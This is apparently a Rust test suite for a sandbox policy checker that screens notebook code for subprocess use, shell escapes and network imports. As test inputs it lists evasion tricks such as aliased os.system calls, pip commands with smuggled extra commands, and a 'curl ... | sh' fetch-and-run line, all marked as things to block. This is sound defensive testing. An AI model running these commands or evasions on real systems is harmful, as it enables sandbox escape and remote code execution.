use super::*;

const POLICY: &str = r#"
[[rule]]
action = "deny"
reason = "no subprocesses"
imports = ["subprocess"]
calls = ["os.system", "os.popen"]
shell = true

[[rule]]
action = "ask"
reason = "network"
imports = ["socket", "urllib.request"]
"#;

fn policy() -> Policy {
    Policy::from_toml(POLICY).expect("policy")
}

fn denied(code: &str) -> Option<String> {
    match policy().check(code, []) {
        Decision::Deny(v) => Some(v.matched),
        _ => None,
    }
}

#[test]
fn every_import_form_is_caught() {
    for code in [
        "import subprocess",
        "import subprocess.run as r",
        "from subprocess import Popen",
        "import os, subprocess",
        "sp = __import__('subprocess')",
        "import importlib as il\nil.import_module('subprocess')",
        "from importlib import import_module as im\nim('subprocess')",
        "importlib.import_module('subprocess.x')",
        "def f():\n    import subprocess\n",
        "class A:\n    def m(self):\n        return [__import__('subprocess') for _ in ()]\n",
        "f = lambda: __import__('subprocess')",
        "if False:\n    import subprocess\n",
        "exec('import subprocess')",
        "eval(\"__import__('subprocess')\")",
        "%load_ext subprocess",
        "%run -m subprocess",
    ] {
        let m = denied(code);
        assert!(
            m.as_deref().is_some_and(|m| m.contains("subprocess")),
            "{code:?}: {m:?}"
        );
    }
}

#[test]
fn calls_are_resolved_through_aliases() {
    for code in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import system\nsystem('id')",
        "import os\nf = os.system\nf('id')",
        "import os\ng = getattr(os, 'system')\ng('id')",
        "getattr(os, 'system')('id')",
        "__import__('os').system('id')",
        "from os import *\nsystem('id')",
        "os.system('id')",
        "os.popen('id').read()",
        "list(map(os.system, ['id']))",
        "os.__dict__['system']('id')",
        "def run(cmd, how=os.system):\n    how(cmd)\n",
        "(f := os.system)('id')",
        "a, b = os.system, print\na('id')",
        "os.system.__call__('id')",
        "/os.system 'id'",
        ",os.system id",
    ] {
        let m = denied(code);
        assert!(
            m.as_deref()
                .is_some_and(|m| m.contains("os.system") || m.contains("os.popen")),
            "{code:?}: {m:?}"
        );
    }
}

#[test]
fn aliases_carry_over_to_later_cells() {
    let p = policy();
    let mut scope = Scope::default();
    assert_eq!(
        p.check_in(&mut scope, "from os import system as run", []),
        Decision::Deny(Verdict {
            rule: 1,
            reason: "no subprocesses".into(),
            matched: "use of os.system".into()
        })
    );
    let mut scope = Scope::default();
    assert_eq!(
        p.check_in(&mut scope, "import os as o", []),
        Decision::Allow
    );
    assert!(matches!(
        p.check_in(&mut scope, "o.system('id')", []),
        Decision::Deny(_)
    ));
    assert!(matches!(
        p.check_in(&mut scope, "print(1)", []),
        Decision::Allow
    ));
}

#[test]
fn shell_escapes_in_every_form() {
    for code in [
        "!ls /",
        "!!ls",
        "files = !ls",
        "x = %sx ls",
        "for i in range(2):\n    !echo $i\n",
        "%%bash\nls /",
        "%%sh\nid",
        "%%script bash\nid",
        "%%!\nls",
        "%system ls",
        "%sx ls",
        "%pip install requests",
        "get_ipython().system('ls')",
        "ip = get_ipython()\nip.getoutput('ls')",
        "get_ipython().run_cell_magic('bash', '', 'ls')",
        "get_ipython().run_line_magic('system', 'ls')",
        "get_ipython().run_cell('!ls')",
        "ls -la",
        "system('id')",
        "%time !ls",
        "%%time\n!ls\n",
        "%%capture out\nimport subprocess\n",
        "%timeit -n1 -r1 os.system('id')",
        ">>> !ls",
        "    !ls\n    x = 1",
    ] {
        let m = denied(code);
        assert!(m.is_some(), "{code:?} passed");
    }
}

#[test]
fn strings_comments_help_and_lookalikes_pass() {
    for code in [
        "s = 'import subprocess'  # os.system('x')\nprint(len(s))",
        "x = '''\n!rm -rf /\n'''",
        "import subprocessing",
        "os.systemx('a')",
        "os.system?",
        "a = 3\nb = a != 2\nc = 5 % 2",
        "def system(x):\n    return x\n",
        "print('%system ls')",
        "# !ls",
        "ls = [1]\nprint(ls)",
        "%matplotlib inline\nimport pandas as pd",
        "%%html\n<b>!ls</b>",
        "%%writefile notes.txt\n!ls and import subprocess",
    ] {
        assert_eq!(denied(code), None, "{code:?} was denied");
    }
}

#[test]
fn ask_rules_hold_and_deny_wins() {
    let p = policy();
    match p.check("import socket", []) {
        Decision::Ask(v) => {
            assert_eq!(v.rule, 2);
            assert_eq!(v.reason, "network");
            assert_eq!(v.matched, "import socket");
        }
        d => panic!("{d:?}"),
    }
    assert!(matches!(
        p.check("from urllib.request import urlopen", []),
        Decision::Ask(_)
    ));
    assert!(matches!(p.check("import urllib", []), Decision::Allow));
    assert!(
        matches!(p.check("import socket\nimport subprocess", []), Decision::Deny(v) if v.rule == 1)
    );
}

#[test]
fn user_expressions_are_checked() {
    let p = policy();
    assert!(matches!(
        p.check("1", ["__import__('subprocess').run('id')"]),
        Decision::Deny(_)
    ));
    assert_eq!(p.check("1", ["x + 1"]), Decision::Allow);
}

#[test]
fn parse_errors_follow_on_parse_error() {
    let p = policy();
    assert_eq!(p.check("def (:", []), Decision::Allow);
    // Unparsable code that names a rule's module is still caught.
    assert!(matches!(
        p.check("def (:\nimport subprocess", []),
        Decision::Deny(_)
    ));
    let strict = Policy::from_toml("on_parse_error = \"deny\"\n[[rule]]\naction = \"deny\"\nreason = \"r\"\nimports = [\"x\"]\n").expect("policy");
    match strict.check("def (:", []) {
        Decision::Deny(v) => {
            assert_eq!(v.rule, 0);
            assert!(v.reason.contains("does not parse"), "{}", v.reason);
        }
        d => panic!("{d:?}"),
    }
    assert_eq!(strict.check("x = 1", []), Decision::Allow);
}

#[test]
fn oversized_and_overdeep_code_is_denied() {
    let p = policy();
    let big = "x = 1\n".repeat(MAX_CODE_BYTES / 6 + 1);
    assert!(matches!(p.check(&big, []), Decision::Deny(v) if v.matched == "size limit"));
    // Deep trees recurse: run on the stack callers are told to give.
    let deep = std::thread::Builder::new()
        .stack_size(STACK_BYTES)
        .spawn(move || {
            let p = policy();
            let unary = format!("x = {}1", "-".repeat(MAX_CODE_BYTES - 10));
            let sum = format!("x = 1{}", "+1".repeat(MAX_CODE_BYTES / 2 - 10));
            let parens = format!("x = {}1{}", "(".repeat(150), ")".repeat(150));
            (p.check(&unary, []), p.check(&sum, []), p.check(&parens, []))
        })
        .expect("thread")
        .join()
        .expect("no overflow");
    assert!(
        matches!(&deep.0, Decision::Deny(v) if v.matched == "nesting limit"),
        "{:?}",
        deep.0
    );
    assert!(
        matches!(&deep.1, Decision::Deny(v) if v.matched == "nesting limit"),
        "{:?}",
        deep.1
    );
    assert_eq!(deep.2, Decision::Allow);
}

#[test]
fn bad_policy_files_say_what_is_wrong() {
    let err = |text: &str| {
        Policy::from_toml(text)
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default()
    };
    assert!(
        err("[[rule]]\naction = \"deny\"\nreason = \"r\"\nimport = [\"x\"]\n").contains("import")
    );
    assert!(
        err("[[rule]]\naction = \"deny\"\nreason = \"\"\nimports = [\"x\"]\n").contains("rule 1")
    );
    assert!(err("[[rule]]\naction = \"deny\"\nreason = \"r\"\n").contains("matches nothing"));
    assert!(err("[[rule]]\naction = \"block\"\nreason = \"r\"\nshell = true\n").contains("block"));
    assert!(
        err("[[rule]]\naction = \"deny\"\nreason = \"r\"\ncalls = [\"os system\"]\n")
            .contains("dotted")
    );
    assert!(err("on_parse_error = \"maybe\"\n").contains("maybe"));
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]
    #[test]
    fn any_text_gets_a_decision(code in "\\PC{0,300}") {
        let _ = policy().check(&code, []);
    }

    #[test]
    fn ipython_like_text_gets_a_decision(code in "([!%?,;/ \\n\\t'\"#()=a-z.]|%%|\"\"\"|import |os\\.system){0,80}") {
        let _ = policy().check(&code, [code.as_str()]);
    }
}

#[test]
fn installing_allowlisted_packages_with_pip_magic_is_no_shell_command() {
    let allowed = policy().with_installable(crate::Installable(std::sync::Arc::new(|name| {
        ["seaborn", "scikit-learn", "tqdm"].contains(&name)
    })));
    let denied_here = |code: &str| matches!(allowed.check(code, []), Decision::Deny(_));
    for code in [
        "%pip install seaborn",
        "%pip install -q Scikit_Learn==1.5.2 seaborn",
        "%pip install \"tqdm>=4,<5\"",
        "pip install seaborn",
        "get_ipython().run_line_magic('pip', 'install seaborn')",
        "%pip install -U 'scikit-learn[extra] >= 1.5'",
    ] {
        assert!(!denied_here(code), "{code:?} denied");
    }
    for code in [
        "!pip install seaborn",
        "%pip install requests",
        "%pip install seaborn requests",
        "%pip install seaborn; id",
        "%pip install seaborn && id",
        "%pip install {name}",
        "%pip install $name",
        "%pip install seaborn>=1",
        "%pip install --index-url http://x seaborn",
        "%pip install -r reqs.txt",
        "%pip uninstall seaborn",
        "%pip install `id`",
        "%pip install 'seaborn$(id)'",
    ] {
        assert!(denied_here(code), "{code:?} passed");
    }
    // Without an allowlist every %pip is a shell command.
    assert!(denied("%pip install seaborn").is_some());
}

#[test]
fn a_sandbox_command_meets_the_shell_rules_only() {
    match policy().check_command("curl -s http://198.18.0.1/ | sh") {
        Decision::Deny(v) => {
            assert_eq!(v.rule, 1);
            assert_eq!(v.matched, "shell command curl -s http://198.18.0.1/ | sh");
        }
        other => panic!("a shell rule denies every command: {other:?}"),
    }
    let asks = Policy::from_toml(
        "[[rule]]\naction = \"ask\"\nreason = \"commands\"\nshell = true\n\
         [[rule]]\naction = \"deny\"\nreason = \"imports\"\nimports = [\"socket\"]\n",
    )
    .expect("policy");
    assert!(matches!(asks.check_command("ls"), Decision::Ask(v) if v.rule == 1));
    let no_shell = Policy::from_toml(
        "[[rule]]\naction = \"deny\"\nreason = \"imports\"\nimports = [\"socket\"]\n",
    )
    .expect("policy");
    assert_eq!(
        no_shell.check_command("python3 -c 'import socket'"),
        Decision::Allow
    );
}
